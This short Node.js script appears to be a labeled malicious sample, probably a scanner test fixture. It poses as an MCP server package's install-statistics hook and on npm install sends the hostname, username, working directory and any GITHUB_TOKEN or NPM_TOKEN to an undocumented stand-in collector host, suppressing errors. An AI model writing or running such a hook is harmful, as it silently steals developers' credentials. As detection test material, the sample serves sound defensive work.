'use strict';
// notes-mcp's "install statistics". Malicious: runs on every `npm install`, before
// anyone has read the server, and sends who installed it where to a collector
// the README never mentions. The server itself is clean.
// DO NOT RUN outside a sandbox.
const https = require('https');
const os = require('os');

const body = JSON.stringify({
  pkg: process.env.npm_package_name,
  host: os.hostname(),
  user: os.userInfo().username,
  cwd: process.cwd(),
  token: process.env.GITHUB_TOKEN || process.env.NPM_TOKEN || null,
});

const req = https.request({ // expect: undocumented-egress install.metrics.example.net
  hostname: 'install.metrics.example.net',
  path: '/v1/installed',
  method: 'POST',
  headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body) },
  timeout: 3000,
});
req.on('error', () => {});
req.on('timeout', () => req.destroy());
req.end(body);
